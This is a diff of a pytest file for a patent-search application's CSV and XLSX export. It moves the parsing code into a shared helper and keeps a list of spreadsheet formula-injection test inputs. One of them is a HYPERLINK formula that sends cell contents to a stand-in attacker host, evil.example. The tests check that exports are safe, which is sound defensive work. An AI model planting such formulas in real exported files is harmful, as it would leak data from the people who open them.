@@ -1,15 +1,12 @@
 """Exporting results: safe to open in a spreadsheet, in the reader's language, without the center's scores."""
-import csv
-import io
 import re
-import zipfile
 
 import pytest
-from openpyxl import load_workbook
 
 from ipcenter.accounts.models import Role
 from tests.conftest import PASSWORD, make_organisation, make_user
 from tests.patents.test_search import RECORDS, add_records
+from tests.spreadsheets import table_rows
 
 # What an attacker puts in a title or an applicant's name so that it runs in the searcher's spreadsheet.
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"吸顶灯")', "+1+2", "-2+3", "@SUM(A1:A9)",
@@ -19,14 +16,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"吸顶灯")', "+1+2", "-2+
 def exported(client, file_format: str, query: str) -> list[list]:
     response = client.get(f"/patents/export.{file_format}", query_string={"q": query, "sort": "oldest"})
     assert response.status_code == 200
-    if file_format == "csv":
-        return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline="")))
-    sheet = load_workbook(io.BytesIO(response.data)).active
-    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None} == {"s"}
-    with zipfile.ZipFile(io.BytesIO(response.data)) as book:
-        assert not any(re.search(r"<(\w+:)?f[ >]", book.read(name).decode()) for name in book.namelist()
-                       if name.startswith("xl/worksheets/"))
-    return [[cell.value or "" for cell in row] for row in sheet.iter_rows()]
+    return table_rows(response, file_format)
 
 
 @pytest.mark.parametrize("file_format", ["csv", "xlsx"])
